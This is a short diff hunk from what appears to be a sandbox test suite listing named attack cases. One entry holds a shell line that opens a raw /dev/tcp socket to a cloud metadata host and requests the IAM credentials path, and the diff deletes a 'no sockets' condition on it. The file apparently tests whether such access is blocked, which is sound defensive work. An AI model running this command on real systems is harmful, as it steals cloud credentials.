@@ -124,7 +124,6 @@ ATTACKS = (
         _script("exec 3<>/dev/tcp/@metadata && echo 'GET /latest/meta-data/iam HTTP/1.0' >&3"),
         sends,
         Habit.SHELL,
-        lacks="no sockets",
     ),
     Attack(
         "network-udp",
